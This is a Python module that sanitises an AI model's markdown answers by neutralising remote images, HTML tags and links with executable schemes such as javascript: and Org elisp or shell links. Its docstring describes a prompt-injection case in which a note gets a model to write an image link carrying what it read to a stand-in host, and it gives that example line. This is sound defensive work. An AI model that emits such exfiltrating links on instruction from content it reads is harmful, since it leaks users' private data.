r"""What an answer may not do where it is shown: load a picture, run a script, open something that is no page.

A note can talk a model into writing `![](http://host/?q=what-it-read)`: a client that renders the answer would send it off. So

* a picture from elsewhere becomes a link where its address stands in a source or in the question, else text with the address
  as code; a picture in the vault, named by a plain relative path, stays;
* a tag of HTML is escaped (`\<img`), but for a few that only shape text;
* a link to anything but http, https, mailto or a relative path is taken apart (`] (javascript:...`), so is a link of Org that
  runs something (`[ [elisp:...`).
"""

from __future__ import annotations

import re
from collections.abc import Callable

MOST_CHARS = 2000
"""A longer picture or tag is not read as one; its beginning is made inert."""

_IMAGE = re.compile(
    r"!\[(?P<alt>(?:[^\[\]\\\n]|\\.|\[[^\[\]\n]*\])*)\]"
    r"\([ \t]*(?P<to><[^<>\n]*>|[^\s()<>]*(?:\([^\s()<>]*\)[^\s()<>]*)*)"
    r"(?:[ \t]+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?[ \t]*\)"
)
_HERE = re.compile(r"(?!.*//)[\w][\w ./()-]*\.(?:png|jpe?g|gif|webp|svg|avif|bmp)", re.IGNORECASE)
_SAFE_TAG = re.compile(
    r"</?(?:br|sub|sup|kbd|b|i|em|strong|u|s|del|ins|mark|small)[ \t]*/?>|<(?:https?://|mailto:)[^\s<>`]*>|<[\w.+-]+@[\w-]+(?:\.[\w-]+)+>",
    re.IGNORECASE,
)
_SCHEME = re.compile(r"[\s<]*([^/?#\s()<>:&\\]*)([/?#\s()<>:&\\])?")
_SCHEMES = frozenset(("http", "https", "mailto"))
_ADDRESS = re.compile(r"(?:https?://|www\.)[^\s<>\"'`\[\]{}|\\^]+", re.IGNORECASE)
_TAG_BEGINS = re.compile(r"<(?=[A-Za-z/!?])")

_ORG_ACTS = re.compile(r"\[(?=\[[ \t]*(?:elisp|shell|file\+(?:sys|emacs)|javascript|command|vscode):)", re.IGNORECASE)

Known = Callable[[str], bool]


def addresses(*texts: str) -> frozenset[str]:
    """The addresses that stand in texts, as written and without the punctuation of the sentence around them."""
    found = {match for text in texts for match in _ADDRESS.findall(text)}
    return frozenset(found | {address.rstrip(".,;:!?)*_") for address in found})


def picture(text: str, known: Known) -> tuple[str, int] | None:
    """What to write in the place of the picture that `text` begins with, and how long that is; None where it is not whole."""
    found = _IMAGE.match(text[:MOST_CHARS])
    if found is None:
        return None
    to = found["to"].strip("<>")
    alt = " ".join(re.sub(r"[!\[\]<>`|\\]", " ", found["alt"]).split())
    if _HERE.fullmatch(to) and "<" not in found["to"] and '"' not in found[0]:
        return f"![{alt}]({to})", found.end()
    if known(to):
        return f"[{alt or 'picture'}]({_plain(to)})", found.end()
    return f"{alt or 'picture'} (`{_plain(to) or 'no address'}`)", found.end()


def _plain(address: str) -> str:
    """An address that ends no code and begins no markup."""
    return re.sub(r"[`<>|\[\]!\\\s]", lambda char: f"%{ord(char[0][0]):02X}", address)


def tag(text: str, *, in_text: bool) -> tuple[str, int]:
    """What to write in the place of the `<` or the whole tag that `text` begins with, and how long that is.

    At the start of a line (not `in_text`) any tag begins a block of HTML, in which nothing is what it seems.
    """
    found = _SAFE_TAG.match(text[:MOST_CHARS])
    if found and (in_text or found[0].startswith(("<http", "<mailto")) or "@" in found[0]):
        return found[0], found.end()
    return ("\\<" if _TAG_BEGINS.match(text) else "<"), 1


def may_lead_there(target: str, *, whole: bool) -> bool | None:
    """Whether a link may have this target; None while that cannot be told from its beginning (unless that is the `whole`)."""
    found = _SCHEME.match(target[:MOST_CHARS])
    if found is None or (found[2] is None and not whole and len(target) < MOST_CHARS):
        return None
    if found[2] == ":":
        return found[1].lower() in _SCHEMES
    return found[2] not in ("&", "\\")


def org_acts(text: str) -> bool:
    """Whether `text` begins with a link of Org that runs something."""
    return bool(_ORG_ACTS.match(text))


def inert(text: str) -> str:
    """Text that may be code or not, with nothing in it that could do anything in either case."""
    parted = _ORG_ACTS.sub("[ ", _TAG_BEGINS.sub(r"\\<", re.sub(r"!+(?=\[)", "", text)))
    pieces = re.split(r"(\](?=[(:]))", parted)
    for at in range(1, len(pieces), 2):
        if not may_lead_there(pieces[at + 1][1:], whole=True):
            pieces[at] = "] "
    return "".join(pieces)
